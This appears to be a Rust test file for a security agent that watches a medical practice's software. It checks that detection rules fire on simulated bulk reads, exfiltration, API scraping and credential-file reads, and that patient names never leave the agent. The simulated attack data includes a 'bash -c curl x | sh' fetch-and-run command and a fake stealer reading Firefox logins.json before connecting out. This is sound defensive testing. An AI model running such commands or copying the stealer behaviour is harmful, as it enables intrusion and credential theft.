//! The detectors on synthesized event streams (no kernel, no root): a practice's normal week
//! is learned, a second normal week must raise nothing, and each rule must fire on its own
//! scenario. Also: a patient's name in a path never leaves through the privacy edge.

use std::collections::BTreeSet;

use clinicwatch_agent::{
    event::finding::Finding,
    event::DecodeStats,
    event::{Ancestor, Event, FileCounters, FileRef, FlowCounters, Health, ProcessCounters},
    intel::Intel,
    kernel::capabilities::{CapabilityReport, Scope},
    Config,
};

/// Monday 2026-11-30 00:00 UTC.
const MONDAY: f64 = 1_795_996_800.0;
const DAY: f64 = 86_400.0;
const PM_PID: u32 = 1000;
const VENDOR: &str = "203.0.113.10";
const DATA: &str = "/var/lib/pm/data/patients.db";
const NOTES: &str = "/var/lib/pm/data/notes.db";

fn config(site_rules: Option<&str>) -> Config {
    let mut text = String::from(
        "[intel]\nwindow_secs = 60\nlearning_days = 7\nutc_offset_minutes = 0\n\
         vendor_allow = [\"203.0.113.0/24\", \"*.vendor.example\"]\nfinding_cooldown_secs = 3600\n",
    );
    if let Some(path) = site_rules {
        text.push_str(&format!("rules_file = \"{path}\"\n"));
    }
    text.push_str(
        "[[app]]\nname = \"pm\"\nexe = \"/opt/pm/client\"\ndata = [\"/var/lib/pm/**\"]\n\
         [[protected]]\nname = \"firefox-logins\"\npath = \"/home/*/.mozilla/firefox/*/logins.json\"\n",
    );
    Config::from_toml(&text).expect("test config")
}

/// A deterministic pseudo-random sequence.
struct Lcg(u64);
impl Lcg {
    fn next(&mut self, lo: u64, hi: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        lo + (self.0 >> 33) % (hi - lo + 1)
    }
}

fn health(drops: u64) -> Health {
    Health {
        hooks: vec![],
        ringbuf_drops: drops,
        decode: DecodeStats::default(),
        unknown_process: 0,
        exits_missed: 0,
        file_counters_evicted: 0,
        output_write_errors: 0,
        watched_processes: 1,
        ..Health::default()
    }
}

fn file(path: &str, ino: u64, bytes: u64, reads: u64) -> FileCounters {
    FileCounters {
        path: path.into(),
        dev: "8:1".into(),
        ino,
        bytes_read: bytes,
        reads,
        opens: 1,
        mmaps: 0,
    }
}

fn flow(cookie: u64, ip: &str, port: u16, sent: u64, recv: u64) -> FlowCounters {
    FlowCounters {
        flow: cookie,
        protocol: "tcp".into(),
        dst: ip.parse().unwrap(),
        port,
        bytes_sent: sent,
        bytes_recv: recv,
        packets_sent: 1,
        packets_recv: 1,
    }
}

fn startup(time: f64, all_hooks: bool) -> Event {
    Event::Startup {
        time,
        agent_pid: 1,
        kernel: "test".into(),
        capabilities: vec![CapabilityReport {
            capability: "file_read".into(),
            hook: all_hooks.then(|| "fexit:vfs_read,vfs_readv".into()),
            scope: all_hooks.then_some(Scope::Targeted),
            passed_over: vec![],
            missing_tracepoints: vec![],
        }],
    }
}

fn exec(time: f64, pid: u32, exe: &str, argv: &[&str]) -> Event {
    Event::Exec {
        time,
        pid,
        ppid: PM_PID,
        uid: 1000,
        gid: 1000,
        app: "pm".into(),
        exe: exe.into(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        argv_truncated: false,
        cgroup_id: 1,
        cgroup: "/".into(),
        ancestry: vec![Ancestor {
            pid: PM_PID,
            exe: "/opt/pm/client".into(),
        }],
    }
}

/// A request of the PM client to its vendor's API, as the TLS probes report it.
fn query(t: f64, method: &str, path: &str, ids: Vec<u64>) -> Event {
    Event::Query {
        time: t,
        pid: PM_PID,
        app: "pm".into(),
        protocol: "http/1.1".into(),
        method: method.into(),
        host: "api.vendor.example".into(),
        path: path.into(),
        requests: 1,
        bytes: 300,
        ids,
    }
}

/// A patient record's identifier, well mixed as the agent's keyed hash (HMAC) makes it
/// (SplitMix64).
fn record(n: u64) -> u64 {
    let mut z = n.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// A practice's ordinary days: the client runs all the time; in practice hours it reads
/// its data every minute (heavier at the morning sync), talks to the vendor, and prints a
/// few times a day; at night, a small update check.
struct Practice {
    rng: Lcg,
    data_bytes: u64,
    notes_bytes: u64,
    reads: u64,
    cookie: u64,
    pid: u32,
}

impl Practice {
    fn new() -> Self {
        Practice {
            rng: Lcg(42),
            data_bytes: 0,
            notes_bytes: 0,
            reads: 0,
            cookie: 1,
            pid: 20_000,
        }
    }

    fn snapshot(&self, time: f64, drops: u64) -> Event {
        Event::Snapshot {
            time,
            processes: vec![ProcessCounters {
                pid: PM_PID,
                app: "pm".into(),
                exe: "/opt/pm/client".into(),
                files: vec![
                    file(DATA, 11, self.data_bytes, self.reads),
                    file(NOTES, 12, self.notes_bytes, self.reads),
                ],
                flows: vec![],
            }],
            health: health(drops),
        }
    }

    fn vendor_exchange(&mut self, t: f64, sent: u64, recv: u64, out: &mut Vec<Event>) {
        self.cookie += 1;
        out.push(Event::NetConnect {
            time: t,
            pid: PM_PID,
            app: "pm".into(),
            flow: self.cookie,
            protocol: "tcp".into(),
            dst: VENDOR.parse().unwrap(),
            port: 443,
            name: None,
        });
        out.push(Event::NetClose {
            time: t + 1.0,
            pid: PM_PID,
            app: "pm".into(),
            counters: flow(self.cookie, VENDOR, 443, sent, recv),
        });
    }

    /// The events of one minute starting at `t` (ending with the snapshot that closes it).
    fn minute(&mut self, t: f64) -> Vec<Event> {
        let mut out = Vec::new();
        let local = (t - MONDAY).rem_euclid(7.0 * DAY);
        let (day, minute) = ((local / DAY) as u32, ((local % DAY) / 60.0) as u32);
        let open = match day {
            0..=4 => (8 * 60..19 * 60).contains(&minute),
            5 => (8 * 60..12 * 60).contains(&minute),
            _ => false,
        };
        if open {
            let mut read = self.rng.next(100_000, 2_000_000);
            if minute < 8 * 60 + 10 {
                read += self.rng.next(5_000_000, 20_000_000); // morning sync
            }
            self.data_bytes += read;
            self.notes_bytes += read / 10;
            self.reads += read / 4096;
            let sent = self.rng.next(2_000, 60_000);
            let recv = self.rng.next(20_000, 600_000);
            self.vendor_exchange(t + 5.0, sent, recv, &mut out);
            // The client's API: a few to 40 patient records a minute among the practice's
            // 1,500 patients, the day's agenda, now and then a note saved.
            for i in 0..self.rng.next(3, 40) {
                let n = self.rng.next(0, 1_500);
                out.push(query(
                    t + 20.0 + i as f64 * 0.5,
                    "GET",
                    "/api/v1/patients/{n}",
                    vec![record(n)],
                ));
            }
            out.push(query(t + 30.0, "GET", "/api/v1/agenda?date", vec![]));
            if self.rng.next(0, 10) == 0 {
                out.push(query(t + 40.0, "POST", "/api/v1/notes", vec![]));
            }
            if self.rng.next(0, 120) == 0 {
                self.pid += 1;
                out.push(exec(
                    t + 10.0,
                    self.pid,
                    "/usr/bin/lp",
                    &["lp", "-d", "office"],
                ));
            }
        } else if minute == 2 * 60 {
            self.vendor_exchange(t + 5.0, 800, 4_000, &mut out);
        }
        out.push(self.snapshot(t + 59.9, 0));
        out
    }
}

/// Every summary and finding the engine produces is one the collector accepts, as the
/// exporter would send it.
fn fits_the_collectors_limits(ev: &Event) {
    use prost::Message as _;
    if let Some((_, bytes)) = clinicwatch_agent::delivery::records::record(ev, 0) {
        let mut rec = clinicwatch_proto::v1::Record::decode(bytes.as_slice()).unwrap();
        rec.seq = 1;
        if let Err(e) = clinicwatch_proto::limits::check_record(&rec) {
            panic!("the collector would refuse {ev:?}: {e}");
        }
    }
}

/// Everything the engine produced, split into findings and summaries.
struct Run {
    intel: Intel,
    findings: Vec<Finding>,
    summaries: u64,
    emitted: Vec<String>,
}

impl Run {
    fn new(cfg: &Config) -> Run {
        let mut r = Run {
            findings: Vec::new(),
            summaries: 0,
            emitted: Vec::new(),
            intel: Intel::new(cfg, None, MONDAY).unwrap(),
        };
        r.feed(vec![startup(MONDAY, true)]);
        r
    }

    fn feed(&mut self, events: Vec<Event>) {
        for ev in events {
            let produced = self.intel.observe(&ev);
            self.emitted
                .push(serde_json::to_string(&self.intel.filter(ev)).unwrap());
            for p in produced {
                fits_the_collectors_limits(&p);
                self.emitted.push(serde_json::to_string(&p).unwrap());
                match p {
                    Event::Finding(f) => self.findings.push(f),
                    Event::Summary(_) => self.summaries += 1,
                    _ => {}
                }
            }
        }
    }

    /// Plays the practice from `from` for `minutes`.
    fn play(&mut self, p: &mut Practice, from: f64, minutes: u64) {
        for m in 0..minutes {
            let evs = p.minute(from + m as f64 * 60.0);
            self.feed(evs);
        }
    }

    fn rules_since(&self, n: usize) -> BTreeSet<String> {
        self.findings[n..].iter().map(|f| f.rule.clone()).collect()
    }

    /// The first finding of `rule` since finding `n`; panics naming the rules raised instead.
    fn found(&self, n: usize, rule: &str) -> &Finding {
        self.findings[n..]
            .iter()
            .find(|f| f.rule == rule)
            .unwrap_or_else(|| panic!("no {rule} among {:?}", self.rules_since(n)))
    }
}

const WEEK_MINUTES: u64 = 7 * 24 * 60;

/// A run that has learned the first week and played the second week's Monday and Tuesday
/// up to 10:00 (a normal practice morning).
fn learned(site_rules: Option<&str>) -> (Run, Practice, f64) {
    let mut run = Run::new(&config(site_rules));
    let mut p = Practice::new();
    run.play(&mut p, MONDAY, WEEK_MINUTES + 34 * 60);
    (run, p, MONDAY + 7.0 * DAY + 34.0 * 3600.0)
}

#[test]
fn a_normal_week_after_learning_raises_nothing() {
    let mut run = Run::new(&config(None));
    let mut p = Practice::new();
    run.play(&mut p, MONDAY, WEEK_MINUTES);
    let learned = run.findings.len();
    assert_eq!(learned, 0, "learning week: {:?}", run.findings);
    run.play(&mut p, MONDAY + 7.0 * DAY, WEEK_MINUTES);
    let fp: Vec<&Finding> = run.findings[learned..].iter().collect();
    println!(
        "normal week after learning: {} windows, {} findings (false positives)",
        run.summaries - WEEK_MINUTES,
        fp.len()
    );
    assert!(fp.is_empty(), "false positives on a normal week: {fp:#?}");
    let b = &run.intel.baselines()["pm"];
    assert!(b.windows >= WEEK_MINUTES, "the learning week was folded in");
    assert!(b.knows_dest("203.0.113.10:443/tcp"));
    assert!(b.knows_child("/usr/bin/lp"));
}

/// The minute starting at `t`, with `extra` events inside it.
fn minute_with(run: &mut Run, p: &mut Practice, t: f64, extra: Vec<Event>) {
    let mut evs = p.minute(t);
    let snap = evs.pop().unwrap();
    evs.extend(extra);
    // The snapshot closing the minute carries the practice's counters.
    evs.push(snap);
    run.feed(evs);
}

#[test]
fn bulk_read_of_patient_data() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    p.data_bytes += 500 << 20;
    minute_with(&mut run, &mut p, t, vec![]);
    run.play(&mut p, t + 60.0, 1);
    let f = run.found(n, "CW-PM-BULK-READ");
    assert_eq!(f.evidence["class"], "pm_data");
    assert!(f.evidence["bytes"].as_u64().unwrap() > 500 << 20);
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from(["CW-PM-BULK-READ".to_string()])
    );
}

#[test]
fn the_app_reading_a_class_it_never_reads() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    let logins = "/home/doc/.mozilla/firefox/abc.default/logins.json";
    let key = "/home/doc/.ssh/id_ed25519";
    let opened = |path: &str, ino: u64| Event::FileOpen {
        time: t + 20.0,
        pid: PM_PID,
        app: "pm".into(),
        file: FileRef {
            path: path.into(),
            flags: "O_RDONLY".into(),
            dev: "8:1".into(),
            ino,
        },
        origin: "open".into(),
    };
    minute_with(
        &mut run,
        &mut p,
        t,
        vec![opened(logins, 77), opened(key, 78)],
    );
    run.play(&mut p, t + 60.0, 1);
    let subjects: BTreeSet<String> = run.findings[n..]
        .iter()
        .filter(|f| f.rule == "CW-NEW-FILE-CLASS")
        .map(|f| f.subject.clone())
        .collect();
    assert_eq!(
        subjects,
        BTreeSet::from(["browser_secrets".to_string(), "ssh_keys".to_string()])
    );
}

fn protected_open(t: f64, pid: u32) -> Event {
    reader_open(t, pid, "/tmp/.x/stealer")
}

fn reader_open(t: f64, pid: u32, exe: &str) -> Event {
    Event::ProtectedOpen {
        time: t,
        pid,
        ppid: 1,
        uid: 1000,
        comm: "stealer".into(),
        exe: exe.into(),
        path: "/home/doc/.mozilla/firefox/abc.default/logins.json".into(),
        rule: "firefox-logins".into(),
        flags: "O_RDONLY".into(),
        ancestry: vec![],
    }
}

fn reader_connect(t: f64, pid: u32) -> Event {
    Event::NetConnect {
        time: t,
        pid,
        app: "protected-reader".into(),
        flow: 999,
        protocol: "tcp".into(),
        dst: "198.51.100.66".parse().unwrap(),
        port: 443,
        name: None,
    }
}

#[test]
fn a_protected_file_read_from_outside_then_a_connect_is_an_infostealer_precursor() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    minute_with(
        &mut run,
        &mut p,
        t,
        vec![
            protected_open(t + 1.0, 5000),
            reader_connect(t + 11.0, 5000),
        ],
    );
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from([
            "CW-PROTECTED-READ".to_string(),
            "CW-INFOSTEALER-PRECURSOR".to_string()
        ])
    );
    let f = run.found(0, "CW-INFOSTEALER-PRECURSOR");
    assert_eq!(f.evidence["destination"], "198.51.100.66:443/tcp");
    assert_eq!(f.evidence["seconds_after_read"], 10.0);

    // A connect two minutes after the read is only the read.
    let n = run.findings.len();
    run.feed(vec![reader_open(t + 70.0, 6000, "/usr/bin/sqlite3")]);
    run.intel.tick(t + 100.0, None);
    run.feed(vec![reader_connect(t + 190.0, 6000)]);
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from(["CW-PROTECTED-READ".to_string()])
    );
}

fn exchange(t: f64, cookie: u64, ip: &str, port: u16, sent: u64) -> Vec<Event> {
    vec![
        Event::NetConnect {
            time: t,
            pid: PM_PID,
            app: "pm".into(),
            flow: cookie,
            protocol: "tcp".into(),
            dst: ip.parse().unwrap(),
            port,
            name: None,
        },
        Event::NetClose {
            time: t + 2.0,
            pid: PM_PID,
            app: "pm".into(),
            counters: flow(cookie, ip, port, sent, 1_000),
        },
    ]
}

#[test]
fn a_new_destination_outside_the_vendor_list() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    // A new vendor address (allow-listed) is not a finding; a new outside one is.
    let mut extra = exchange(t + 10.0, 5001, "203.0.113.99", 443, 1_000);
    extra.extend(exchange(t + 20.0, 5002, "198.51.100.66", 8443, 1_000));
    minute_with(&mut run, &mut p, t, extra);
    run.play(&mut p, t + 60.0, 1);
    let found: Vec<&Finding> = run.findings[n..].iter().collect();
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].rule, "CW-NEW-DESTINATION");
    assert_eq!(found[0].subject, "198.51.100.66:8443/tcp");
    // Reported once: the same destination next hour is known.
    let n = run.findings.len();
    let later = t + 3600.0;
    minute_with(
        &mut run,
        &mut p,
        later,
        exchange(later + 5.0, 5003, "198.51.100.66", 8443, 1_000),
    );
    assert!(
        run.rules_since(n).is_empty(),
        "{:?}",
        run.findings[n..].to_vec()
    );
}

#[test]
fn an_egress_surge_to_a_known_destination() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    minute_with(
        &mut run,
        &mut p,
        t,
        exchange(t + 10.0, 5001, VENDOR, 443, 200 << 20),
    );
    run.play(&mut p, t + 60.0, 1);
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from(["CW-EGRESS-SURGE".to_string()])
    );
}

#[test]
fn read_then_send_in_the_same_window() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    p.data_bytes += 30 << 20;
    minute_with(
        &mut run,
        &mut p,
        t,
        exchange(t + 10.0, 5001, "198.51.100.66", 443, 25 << 20),
    );
    run.play(&mut p, t + 60.0, 1);
    let rules = run.rules_since(n);
    assert!(rules.contains("CW-READ-THEN-SEND"), "{rules:?}");
    assert!(rules.contains("CW-NEW-DESTINATION"), "{rules:?}");
    let f = run.found(n, "CW-READ-THEN-SEND");
    assert_eq!(f.evidence["destinations"][0], "198.51.100.66:443/tcp");
    // Sending to the vendor alone is not read-then-send.
    let n = run.findings.len();
    let later = t + 7200.0;
    p.data_bytes += 30 << 20;
    minute_with(
        &mut run,
        &mut p,
        later,
        exchange(later + 10.0, 5002, VENDOR, 443, 25 << 20),
    );
    assert!(!run.rules_since(n).contains("CW-READ-THEN-SEND"));
}

#[test]
fn read_then_send_across_a_window_boundary() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    // The read closes one window, the send opens the next.
    p.data_bytes += 30 << 20;
    minute_with(&mut run, &mut p, t, vec![]);
    minute_with(
        &mut run,
        &mut p,
        t + 60.0,
        exchange(t + 61.0, 5001, "198.51.100.66", 443, 25 << 20),
    );
    run.play(&mut p, t + 120.0, 1);
    let f = run.found(n, "CW-READ-THEN-SEND");
    assert_eq!(f.evidence["windows"], 2, "{f:?}");
    assert!(f.evidence["pm_data_bytes_read"].as_u64().unwrap() >= 30 << 20);
    assert_eq!(f.evidence["destinations"][0], "198.51.100.66:443/tcp");
    // Past the span (120 s), a read and a send are not paired.
    let n = run.findings.len();
    let later = t + 7200.0;
    p.data_bytes += 30 << 20;
    minute_with(&mut run, &mut p, later, vec![]);
    run.play(&mut p, later + 60.0, 2);
    minute_with(
        &mut run,
        &mut p,
        later + 180.0,
        exchange(later + 181.0, 5002, "198.51.100.67", 443, 25 << 20),
    );
    run.play(&mut p, later + 240.0, 1);
    assert!(
        !run.rules_since(n).contains("CW-READ-THEN-SEND"),
        "{:?}",
        run.rules_since(n)
    );
    // A large read just before does not dilute a pair inside one window (the window alone
    // is tried first).
    let n = run.findings.len();
    let third = t + 4.0 * 3600.0;
    p.data_bytes += 50 << 20;
    minute_with(&mut run, &mut p, third, vec![]);
    p.data_bytes += 5 << 20;
    minute_with(
        &mut run,
        &mut p,
        third + 60.0,
        exchange(third + 61.0, 5003, "198.51.100.68", 443, 5 << 20),
    );
    run.play(&mut p, third + 120.0, 1);
    let f = run.found(n, "CW-READ-THEN-SEND");
    assert_eq!(f.evidence["windows"], 1, "{f:?}");
}

#[test]
fn read_then_send_with_hundreds_of_decoys_names_the_largest_and_counts_the_rest() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    p.data_bytes += 30 << 20;
    // The exfiltration, hidden among 220 small sends to other outside addresses.
    let mut extra = exchange(t + 10.0, 5001, "198.51.100.66", 443, 25 << 20);
    for i in 0..220u64 {
        let ip = format!("192.0.2.{}", i % 250);
        extra.extend(exchange(
            t + 11.0 + i as f64 * 0.1,
            6000 + i,
            &ip,
            1000 + i as u16,
            10_000 + i,
        ));
    }
    minute_with(&mut run, &mut p, t, extra);
    run.play(&mut p, t + 60.0, 1);
    let f = run.found(n, "CW-READ-THEN-SEND");
    let dests = f.evidence["destinations"].as_array().unwrap();
    assert_eq!(dests.len(), 21, "{dests:?}");
    assert_eq!(dests[0], "198.51.100.66:443/tcp", "the largest first");
    assert_eq!(dests[1], "192.0.2.219:1219/tcp");
    assert_eq!(dests[20], "+201 more");
    assert_eq!(f.evidence["destinations_count"], 221);
    // (`Run::feed` checked that every record, summaries included, fits the limits.)
}

#[test]
fn a_shell_under_the_app_and_a_new_child() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    minute_with(
        &mut run,
        &mut p,
        t,
        vec![
            exec(
                t + 3.0,
                7000,
                "/usr/bin/bash",
                &["bash", "-c", "curl x | sh"],
            ),
            exec(t + 4.0, 7001, "/usr/bin/evince", &["evince", "letter.pdf"]),
        ],
    );
    run.play(&mut p, t + 60.0, 1);
    let got: BTreeSet<(String, String)> = run.findings[n..]
        .iter()
        .map(|f| (f.rule.clone(), f.subject.clone()))
        .collect();
    assert_eq!(
        got,
        BTreeSet::from([
            (
                "CW-SUSPICIOUS-CHILD".to_string(),
                "/usr/bin/bash".to_string()
            ),
            ("CW-NEW-CHILD".to_string(), "/usr/bin/bash".to_string()),
            ("CW-NEW-CHILD".to_string(), "/usr/bin/evince".to_string()),
        ])
    );
}

#[test]
fn scraping_patient_records_through_the_api() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    // 3,000 different records in one minute, through the template the client uses daily.
    let scrape: Vec<Event> = (0..3_000u64)
        .map(|i| {
            query(
                t + 1.0 + i as f64 * 0.01,
                "GET",
                "/api/v1/patients/{n}",
                vec![record(100_000 + i)],
            )
        })
        .collect();
    minute_with(&mut run, &mut p, t, scrape);
    run.play(&mut p, t + 60.0, 1);
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from(["CW-QUERY-SCRAPE".to_string(), "CW-QUERY-SURGE".to_string()])
    );
    let f = run.found(n, "CW-QUERY-SCRAPE");
    assert_eq!(f.subject, "GET api.vendor.example/api/v1/patients/{n}");
    let distinct = f.evidence["distinct_ids"].as_u64().unwrap();
    assert!((2_950..=3_050).contains(&distinct), "{distinct}");
    // The same record read 3,000 times is many requests, not a scrape (an hour later, past
    // the surge finding's cooldown).
    run.play(&mut p, t + 120.0, 62);
    let t = t + 120.0 + 62.0 * 60.0;
    let n = run.findings.len();
    let rereads: Vec<Event> = (0..3_000)
        .map(|i| {
            query(
                t + 1.0 + i as f64 * 0.01,
                "GET",
                "/api/v1/patients/{n}",
                vec![record(7)],
            )
        })
        .collect();
    minute_with(&mut run, &mut p, t, rereads);
    run.play(&mut p, t + 60.0, 1);
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from(["CW-QUERY-SURGE".to_string()])
    );
}

#[test]
fn a_request_the_client_never_made() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    minute_with(
        &mut run,
        &mut p,
        t,
        vec![query(t + 5.0, "GET", "/api/v1/export/{h:1a2b3c4d}", vec![])],
    );
    run.play(&mut p, t + 60.0, 3);
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from(["CW-QUERY-NEW".to_string()])
    );
}

#[test]
fn activity_outside_practice_hours() {
    let (mut run, mut p, _) = learned(None);
    // Saturday 23:00 of the second week.
    let t = MONDAY + 12.0 * DAY + 23.0 * 3600.0;
    run.play(&mut p, MONDAY + 7.0 * DAY + 34.0 * 3600.0, 1);
    let n = run.findings.len();
    p.data_bytes += 40 << 20;
    minute_with(&mut run, &mut p, t, vec![]);
    run.play(&mut p, t + 60.0, 1);
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from(["CW-OFF-HOURS".to_string()])
    );
}

#[test]
fn sensor_health_drops_hooks_restart_and_clock() {
    let (mut run, p, t) = learned(None);
    let n = run.findings.len();
    run.feed(vec![p.snapshot(t + 10.0, 0), p.snapshot(t + 20.0, 17)]);
    run.feed(vec![startup(t + 30.0, false)]);
    let mut ticks = Vec::new();
    // The wall clock steps an hour away from the agent's clock between two ticks.
    ticks.extend(run.intel.tick(t + 40.0, Some(0.2)));
    ticks.extend(run.intel.tick(t + 45.0, Some(3600.2)));
    assert!(run.intel.take_clock_jump());
    run.findings
        .extend(ticks.into_iter().filter_map(|e| match e {
            Event::Finding(f) => Some(f),
            _ => None,
        }));
    let rules = run.rules_since(n);
    assert_eq!(
        rules,
        BTreeSet::from([
            "CW-SENSOR-DROPS".to_string(),
            "CW-SENSOR-HOOKS".to_string(),
            "CW-AGENT-RESTART".to_string(),
            "CW-CLOCK-JUMP".to_string()
        ])
    );
    let drops = run.found(0, "CW-SENSOR-DROPS");
    assert_eq!(drops.evidence["records_lost"], 17);
}

#[test]
fn baseline_rules_wait_for_the_learning_period_but_a_shell_does_not() {
    let mut run = Run::new(&config(None));
    let mut p = Practice::new();
    let t = MONDAY + 9.0 * 3600.0;
    run.play(&mut p, MONDAY, 9 * 60);
    p.data_bytes += 500 << 20;
    let mut extra = exchange(t + 10.0, 5001, "198.51.100.66", 8443, 1_000);
    extra.push(exec(t + 3.0, 7000, "/usr/bin/bash", &["bash"]));
    minute_with(&mut run, &mut p, t, extra);
    run.play(&mut p, t + 60.0, 1);
    let rules = run.rules_since(0);
    assert_eq!(rules, BTreeSet::from(["CW-SUSPICIOUS-CHILD".to_string()]));
}

#[test]
fn a_site_can_disable_and_tune_rules() {
    let dir = clinicwatch_testkit::TempDir::new("site-rules");
    let path = dir.join("site.toml");
    std::fs::write(
        &path,
        "[[rule]]\nid = \"CW-SUSPICIOUS-CHILD\"\nenabled = false\n\
         [[rule]]\nid = \"CW-PM-BULK-READ\"\nfloor_bytes = 1073741824\n",
    )
    .unwrap();
    let (mut run, mut p, t) = learned(Some(path.to_str().unwrap()));
    let n = run.findings.len();
    p.data_bytes += 500 << 20;
    minute_with(
        &mut run,
        &mut p,
        t,
        vec![exec(t + 3.0, 7000, "/usr/bin/bash", &["bash"])],
    );
    run.play(&mut p, t + 60.0, 1);
    // Only the new child is left: the shell rule is off, and 500 MiB is under the new floor.
    assert_eq!(
        run.rules_since(n),
        BTreeSet::from(["CW-NEW-CHILD".to_string()])
    );
}

#[test]
fn a_patient_name_in_a_path_never_leaves_the_agent() {
    let mut run = Run::new(&config(None));
    let t = MONDAY + 9.0 * 3600.0;
    let named = "/var/lib/pm/data/DUPONT Jeanne 1957/compte-rendu.pdf";
    let named_secret = "/home/Jeanne.Dupont/.mozilla/firefox/abc.default/logins.json";
    let events = vec![
        Event::FileOpen {
            time: t,
            pid: PM_PID,
            app: "pm".into(),
            file: FileRef {
                path: named.into(),
                flags: "O_RDONLY".into(),
                dev: "8:1".into(),
                ino: 5,
            },
            origin: "open".into(),
        },
        Event::FileMmap {
            time: t + 1.0,
            pid: PM_PID,
            app: "pm".into(),
            file: FileRef {
                path: named.into(),
                flags: "O_RDONLY".into(),
                dev: "8:1".into(),
                ino: 5,
            },
        },
        exec(t + 2.0, 7000, "/usr/bin/lp", &["lp", named]),
        protected_open(t + 3.0, 5000),
        Event::ProtectedOpen {
            time: t + 3.5,
            pid: 5001,
            ppid: 1,
            uid: 1000,
            comm: "cat".into(),
            exe: "/usr/bin/cat".into(),
            path: named_secret.into(),
            rule: "firefox-logins".into(),
            flags: "O_RDONLY".into(),
            ancestry: vec![],
        },
        Event::Snapshot {
            time: t + 30.0,
            processes: vec![ProcessCounters {
                pid: PM_PID,
                app: "pm".into(),
                exe: "/opt/pm/client".into(),
                files: vec![file(named, 5, 90 << 20, 100)],
                flows: vec![],
            }],
            health: health(0),
        },
        Event::Exit {
            time: t + 40.0,
            pid: PM_PID,
            app: "pm".into(),
            exe: "/opt/pm/client".into(),
            exit_code: 0,
            signal: 0,
            files: vec![file(named, 5, 95 << 20, 120)],
            files_evicted: 0,
            flows: vec![flow(3, "198.51.100.66", 443, 90 << 20, 0)],
        },
    ];
    run.feed(events);
    run.intel.tick(t + 3600.0, None);
    let stopped = run.intel.stop();
    run.emitted
        .extend(stopped.iter().map(|e| serde_json::to_string(e).unwrap()));
    assert!(run
        .findings
        .iter()
        .any(|f| f.rule == "CW-SUSPICIOUS-CHILD" || f.rule == "CW-PROTECTED-READ"));
    let all = run.emitted.join("\n").to_lowercase();
    for name in ["dupont", "jeanne", "1957", "compte-rendu"] {
        assert!(!all.contains(name), "`{name}` left the agent:\n{all}");
    }
    // What does leave: the class, a keyed hash and the extension.
    assert!(all.contains("\"path\":\"pm_data:"), "{all}");
    assert!(all.contains(".pdf\""), "{all}");
    assert!(all.contains("\"path\":\"browser_secrets:"), "{all}");
}

#[test]
fn a_vendor_name_from_dns_allows_a_new_address() {
    let (mut run, mut p, t) = learned(None);
    let n = run.findings.len();
    let mut extra = exchange(t + 10.0, 5001, "192.0.2.44", 443, 1_000);
    if let Event::NetConnect { name, .. } = &mut extra[0] {
        *name = Some("cdn.vendor.example".into());
    }
    minute_with(&mut run, &mut p, t, extra);
    run.play(&mut p, t + 60.0, 1);
    assert!(
        run.rules_since(n).is_empty(),
        "{:?}",
        run.findings[n..].to_vec()
    );
}

#[test]
fn a_protected_readers_traffic_is_summarised_apart_for_the_fleet_and_its_path_names_no_one() {
    let mut intel = Intel::new(&config(None), None, MONDAY).unwrap();
    let t = MONDAY + 600.0;
    let mut out = Vec::new();
    for ev in [
        startup(MONDAY, true),
        reader_open(t, 5000, "/home/dupont/.cache/upd/agent"),
        Event::NetConnect {
            time: t + 2.0,
            pid: 5000,
            app: "protected-reader".into(),
            flow: 77,
            protocol: "tcp".into(),
            dst: "203.0.113.10".parse().unwrap(),
            port: 443,
            name: Some("pm.vendor.example".into()),
        },
        Event::NetClose {
            time: t + 5.0,
            pid: 5000,
            app: "protected-reader".into(),
            counters: flow(77, "203.0.113.10", 443, 5_000, 900),
        },
    ] {
        out.extend(intel.observe(&ev));
    }
    out.extend(intel.tick(t + 125.0, None));
    let summaries: Vec<_> = out
        .iter()
        .filter_map(|e| match e {
            Event::Summary(w) if w.app == "protected-reader" => Some(w),
            _ => None,
        })
        .collect();
    assert_eq!(
        summaries.len(),
        1,
        "one window with reader activity: {out:#?}"
    );
    let d = &summaries[0].destinations[0];
    assert_eq!(d.name.as_deref(), Some("pm.vendor.example"));
    assert_eq!((d.bytes_sent, d.bytes_recv, d.connects), (5_000, 900, 1));
    // The findings name the program without the user's name.
    let read = out
        .iter()
        .find_map(|e| match e {
            Event::Finding(f) if f.rule == "CW-PROTECTED-READ" => Some(f),
            _ => None,
        })
        .expect("the protected read");
    assert_eq!(read.evidence["exe"], "/home/~/.cache/upd/agent");
    assert!(!serde_json::to_string(&out).unwrap().contains("dupont"));
    // Windows without reader activity make no reader summary.
    let later = intel.tick(t + 1000.0, None);
    assert!(!later
        .iter()
        .any(|e| matches!(e, Event::Summary(w) if w.app == "protected-reader")));
}
